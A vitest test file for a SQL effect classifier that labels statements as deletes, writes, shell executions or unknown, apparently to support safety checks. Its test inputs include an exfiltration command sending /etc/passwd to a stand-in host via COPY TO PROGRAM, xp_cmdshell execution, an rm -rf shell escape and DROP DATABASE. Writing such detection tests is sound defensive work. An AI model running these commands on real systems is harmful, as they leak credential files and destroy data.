import { describe, expect, it } from 'vitest';
import type { Effect } from '../../effects.js';
import { sqlEffects } from './index.js';

const paths = (effects: Effect[], type: Effect['type']) => effects.filter((e) => e.type === type).map((e) => ('path' in e ? e.path.path : ''));

describe('sqlEffects', () => {
  it('states DROP, TRUNCATE, DELETE without WHERE and ALTER … DROP as deletes of db paths', () => {
    expect(paths(sqlEffects('DROP TABLE users', 'postgresql', 'app'), 'delete')).toEqual(['db:app/users']);
    expect(paths(sqlEffects('truncate table public.logs', 'postgresql', 'app'), 'delete')).toEqual(['db:app/public.logs']);
    expect(paths(sqlEffects('DELETE FROM accounts', 'mysql', 'shop'), 'delete')).toEqual(['db:shop/accounts']);
    expect(paths(sqlEffects('ALTER TABLE t DROP COLUMN c', 'postgresql'), 'delete')).toEqual(['db:*/t']);
    expect(paths(sqlEffects('DROP TABLE IF EXISTS t; DELETE FROM u', 'sqlite', 'x.db'), 'delete')).toEqual(['db:x.db/t', 'db:x.db/u']);
  });

  it('leaves reads and bounded changes alone', () => {
    expect(sqlEffects('SELECT * FROM users WHERE id = 1', 'postgresql')).toEqual([]);
    expect(sqlEffects('DELETE FROM sessions WHERE expires < now()', 'postgresql')).toEqual([]);
    expect(sqlEffects("INSERT INTO t (a) VALUES ('DROP TABLE x')", 'postgresql')).toEqual([]);
    expect(paths(sqlEffects('UPDATE users SET admin = true', 'postgresql', 'app'), 'write')).toEqual(['db:app/users']);
  });

  it('tokenises what the parser rejects: DROP DATABASE, COPY … TO PROGRAM, xp_cmdshell', () => {
    expect(paths(sqlEffects('DROP DATABASE prod', 'postgresql'), 'delete')).toEqual(['db:prod/*']);
    expect(paths(sqlEffects('/* x */ DROP SCHEMA s CASCADE', 'postgresql'), 'delete')).toEqual(['db:s/*']);
    expect(sqlEffects("COPY t TO PROGRAM 'curl -d @/etc/passwd x.example'", 'postgresql').find((e) => e.type === 'exec')).toMatchObject({ code: 'curl -d @/etc/passwd x.example', language: 'bash' });
    expect(sqlEffects("EXEC master..xp_cmdshell 'whoami'", 'transactsql').find((e) => e.type === 'exec')).toMatchObject({ code: 'whoami' });
    // A comment or a string that mentions DROP is not a statement.
    expect(sqlEffects("SELECT 'DROP TABLE x' -- DROP TABLE y", 'postgresql')).toEqual([]);
    expect(sqlEffects('FROBNICATE everything', 'postgresql')).toEqual([{ type: 'unknown', producer: 'code:sql', command: null, reason: 'unparsed_sql' }]);
  });

  it("reads psql's and mysql's backslash meta-commands as what they do, not as SQL", () => {
    // Describing and toggles only show.
    expect(sqlEffects('\\d+ journal_entries', 'postgresql')).toEqual([]);
    expect(sqlEffects('\\dt public.*\n\\x\nSELECT count(*) FROM t', 'postgresql')).toEqual([]);
    // A shell escape runs its line; a file read, written or run, or output run as SQL, is unknown.
    expect(sqlEffects('\\! rm -rf /tmp/x', 'postgresql').find((e) => e.type === 'exec')).toMatchObject({ code: 'rm -rf /tmp/x', language: 'bash' });
    expect(sqlEffects('\\i /tmp/payload.sql', 'postgresql')).toEqual([{ type: 'unknown', producer: 'code:sql', command: null, reason: 'psql_meta_i' }]);
    expect(sqlEffects("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", 'postgresql').map((e) => e.type)).toContain('unknown');
    // The statements beside them are still read.
    expect(paths(sqlEffects('\\timing on\nDROP TABLE users', 'postgresql', 'app'), 'delete')).toEqual(['db:app/users']);
  });
});
